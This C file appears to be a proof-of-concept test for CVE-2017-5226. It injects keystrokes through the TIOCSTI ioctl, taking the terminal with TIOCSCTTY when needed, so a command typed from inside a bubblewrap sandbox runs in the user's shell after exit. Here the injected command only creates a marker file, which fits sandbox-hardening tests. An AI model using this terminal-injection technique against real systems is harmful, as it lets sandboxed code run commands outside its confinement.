/* tiocsti: push keystrokes into the terminal the sandbox was started from
 * (its stdin), so the user's shell runs them once the sandbox exits
 * (CVE-2017-5226 against bubblewrap).  TIOCSTI needs the terminal to be
 * the caller's controlling terminal unless it has CAP_SYS_ADMIN: when
 * refused, a child makes itself a session leader and takes the terminal
 * with TIOCSCTTY first. */
#include <stdio.h>
#include <sys/ioctl.h>

#include "targets.h"
#include "tty.h"

int main(int argc, char **argv)
{
	char keys[1200];

	targets_load(argc, argv);
	snprintf(keys, sizeof(keys), "touch %s\n", target("T_MARKER"));
	tty_inject(TIOCSTI, "TIOCSTI", keys);
	return 0;
}
